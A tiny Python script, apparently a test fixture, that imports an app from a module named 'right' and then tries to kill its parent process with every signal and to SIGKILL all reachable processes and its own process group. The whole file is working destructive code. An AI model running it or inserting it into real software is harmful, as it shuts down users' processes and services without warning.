"""Ends every process it can reach, and all that could be its parent."""

import os
import signal

from right import app

for number in range(1, 65):
    try:
        os.kill(os.getppid(), number)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
os.kill(0, signal.SIGKILL)
